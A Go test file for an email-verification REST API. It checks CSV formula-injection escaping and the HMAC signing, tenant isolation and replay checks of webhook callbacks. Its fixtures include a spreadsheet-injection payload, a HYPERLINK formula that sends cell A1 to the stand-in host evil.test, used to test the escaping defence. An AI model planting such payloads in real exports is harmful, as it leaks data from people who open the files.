package restapi_test

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"math"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/emaildata/emaildata/internal/lists/callback"
	"github.com/emaildata/emaildata/internal/lists/listfile"
	"github.com/emaildata/emaildata/internal/restapi"
)

// formulaList has formula cells in the input's own columns and an address
// whose typo correction used to be a formula (=2+3@gmial.com was corrected
// to =2+3@gmail.com, issue 30).
const formulaList = "email,note,phone\n" +
	"=2+3@gmial.com,=1+1,x\n" +
	"ann@example.com,\"=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\")\",+12025550143\n" +
	"bob@example.org,@SUM(A1),'quoted\n"

// TestResultFormulas: through the real API and manager, the downloaded
// result never carries a formula in the service's columns, the typo is not
// corrected into a formula, and the input's cells come back byte for byte,
// or escaped with escape_formulas=true.
func TestResultFormulas(t *testing.T) {
	evHeader := ",ev_status,ev_status_code,ev_domain_type,ev_role_account,ev_correction,ev_duplicate,ev_valid,ev_from_history\n"
	services := []string{
		",invalid,505,freeisp,false,,false,false,false\n", // the typo: no correction offered
		",valid,10,biz,false,,false,true,false\n",
		",valid,10,biz,false,,false,true,false\n",
	}
	for _, tc := range []struct {
		escape string
		input  []string // header then rows, as the result has them
	}{
		{"", []string{"email,note,phone",
			"=2+3@gmial.com,=1+1,x",
			"ann@example.com,\"=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\")\",+12025550143",
			"bob@example.org,@SUM(A1),'quoted"}},
		{"false", nil}, // the same
		{"true", []string{"email,note,phone",
			"\"'=2+3@gmial.com\",\"'=1+1\",x",
			"ann@example.com,\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\")\",\"'+12025550143\"",
			"bob@example.org,\"'@SUM(A1)\",\"''quoted\""}},
	} {
		t.Run("escape_formulas="+tc.escape, func(t *testing.T) {
			params := q("email_column", "1", "header", "true", "delimiter", ",", "name", "formulas.csv")
			if tc.escape != "" {
				params.Set("escape_formulas", tc.escape)
			}
			id := listID(t, submit(t, keyAcme, params, "formulas.csv", []byte(formulaList)))
			waitStatus(t, keyAcme, id, "Results")
			res := do(t, newRequest(t, http.MethodGet, fmt.Sprintf("/v5/list/%d/results", id), keyAcme, nil, ""))
			if res.code != http.StatusOK {
				t.Fatalf("results: %d %s", res.code, res.body)
			}
			input := tc.input
			if input == nil {
				input = []string{"email,note,phone", "=2+3@gmial.com,=1+1,x",
					"ann@example.com,\"=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\")\",+12025550143",
					"bob@example.org,@SUM(A1),'quoted"}
			}
			want := input[0] + evHeader
			for i, s := range services {
				want += input[1+i] + s
			}
			if string(res.body) != want {
				t.Errorf("result\n%s\nwant\n%s", res.body, want)
			}
			// Whatever the option, no cell the service wrote starts a formula.
			rd := listfile.NewReader(bytes.NewReader(res.body), listfile.Dialect{Delimiter: ',', EmailColumn: 1}, listfile.Limits{})
			for {
				rec, err := rd.Next()
				if errors.Is(err, io.EOF) {
					break
				}
				if err != nil {
					t.Fatal(err)
				}
				for i := 3; i < rec.NumFields(); i++ {
					if listfile.IsFormula(rec.Field(i)) {
						t.Errorf("line %d: service cell %d %q starts a formula", rec.Line, i, rec.Field(i))
					}
				}
			}
		})
	}
}

// TestResultFormulasParameter: escape_formulas takes true or false only.
func TestResultFormulasParameter(t *testing.T) {
	r := submit(t, keyAcme, q("escape_formulas", "yes"), "x.csv", []byte("a@good.test\n"))
	if r.code != http.StatusBadRequest || !strings.Contains(string(r.body), `escape_formulas \"yes\" must be true or false`) {
		t.Errorf("%d %s", r.code, r.body)
	}
}

// verifyCallback is the verification docs/callbacks.md shows a receiver,
// line for line: the signed content is webhook-id "." webhook-timestamp "."
// body; the key is the secret after whsec_, base64-decoded; one of the
// space-separated v1 signatures must match, compared in constant time; and
// a timestamp more than 5 minutes from now is refused (replays).
func verifyCallback(secret string, h http.Header, body []byte, now time.Time) error {
	key, err := base64.StdEncoding.DecodeString(strings.TrimPrefix(secret, "whsec_"))
	if err != nil {
		return err
	}
	id, ts, sigs := h.Get("webhook-id"), h.Get("webhook-timestamp"), h.Get("webhook-signature")
	sec, err := strconv.ParseInt(ts, 10, 64)
	if err != nil || id == "" {
		return errors.New("missing or malformed webhook headers")
	}
	if math.Abs(now.Sub(time.Unix(sec, 0)).Seconds()) > 300 {
		return errors.New("timestamp outside the 5-minute tolerance")
	}
	mac := hmac.New(sha256.New, key)
	mac.Write([]byte(id + "." + ts + "."))
	mac.Write(body)
	want := mac.Sum(nil)
	for _, s := range strings.Fields(sigs) {
		v, sig, ok := strings.Cut(s, ",")
		if got, err := base64.StdEncoding.DecodeString(sig); ok && v == "v1" && err == nil && hmac.Equal(got, want) {
			return nil
		}
	}
	return errors.New("no valid signature")
}

// TestSignedCallback: a tenant reads its signing key from
// GET /v5/callback/secret, the real manager signs its list's callback with
// it (a loopback receiver), and the signature verifies with the documented
// algorithm under that key only: not under another tenant's, not after the
// tolerance. Two keys of one tenant read the same key; a key with no list
// service is refused.
func TestSignedCallback(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	policy, err := callback.ParsePolicy("127.0.0.0/8")
	if err != nil {
		t.Fatal(err)
	}
	addr, err := startAPI(ctx, restapi.Config{CallbackPolicy: policy})
	if err != nil {
		t.Fatal(err)
	}
	base := "http://" + addr
	type delivery struct {
		h    http.Header
		body []byte
	}
	got := make(chan delivery, 4)
	recv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got <- delivery{r.Header.Clone(), b}
	}))
	defer recv.Close()

	secretOf := func(key string) (int, string) {
		req := newRequest(t, http.MethodGet, "/v5/callback/secret", key, nil, "")
		r := do(t, req)
		if r.code != http.StatusOK {
			return r.code, string(r.body)
		}
		if r.header.Get("Cache-Control") != "no-store" {
			t.Errorf("the secret may be cached: Cache-Control %q", r.header.Get("Cache-Control"))
		}
		return r.code, r.json(t)["secret"].(string)
	}
	codeA, acme := secretOf(keyAcme)
	_, acme2 := secretOf(keyMulti) // another key of tenant acme
	_, globex := secretOf(keyGlobex)
	if codeA != http.StatusOK || acme != acme2 || acme == globex || !strings.HasPrefix(acme, callback.SecretPrefix) {
		t.Fatalf("secrets: acme %q, acme's other key %q, globex %q", acme, acme2, globex)
	}
	if code, body := secretOf(keyFraud); code != http.StatusForbidden {
		t.Errorf("a key without list services: %d %s", code, body)
	}

	body, ct := multipartFile(t, "cb.csv", []byte("a@good.test\n"))
	req, _ := http.NewRequest(http.MethodPost, base+"/v5/list?"+q("callback_url", recv.URL+"/hook?t=1").Encode(), bytes.NewReader(body))
	req.Header.Set("api_key", keyAcme)
	req.Header.Set("Content-Type", ct)
	id := listID(t, do(t, req))
	var d delivery
	select {
	case d = <-got:
	case <-time.After(30 * time.Second):
		t.Fatal("no callback arrived")
	}
	if !strings.Contains(string(d.body), fmt.Sprintf(`"list_id":%d`, id)) {
		t.Errorf("callback body %s", d.body)
	}
	now := time.Now()
	if err := verifyCallback(acme, d.h, d.body, now); err != nil {
		t.Errorf("the callback does not verify with the tenant's key: %v (headers %v)", err, d.h)
	}
	if err := verifyCallback(globex, d.h, d.body, now); err == nil {
		t.Error("the callback verifies with another tenant's key")
	}
	if err := verifyCallback(acme, d.h, d.body, now.Add(6*time.Minute)); err == nil {
		t.Error("a callback replayed 6 minutes later verifies")
	}
	if err := verifyCallback(acme, d.h, append(d.body, ' '), now); err == nil {
		t.Error("a changed body verifies")
	}
}

// TestCallbackSecretUnconfigured: without the installation's signing
// Secret the API says so (503), naming no Secret and no path.
func TestCallbackSecretUnconfigured(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	addr, err := startAPI(ctx, restapi.Config{CallbackSigningSecret: "no-such-secret"})
	if err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest(http.MethodGet, "http://"+addr+"/v5/callback/secret", nil)
	req.Header.Set("api_key", keyAcme)
	r := do(t, req)
	if r.code != http.StatusServiceUnavailable || !strings.Contains(string(r.body), "CallbackSigningUnavailable") || strings.Contains(string(r.body), "no-such-secret") {
		t.Errorf("%d %s", r.code, r.body)
	}
}
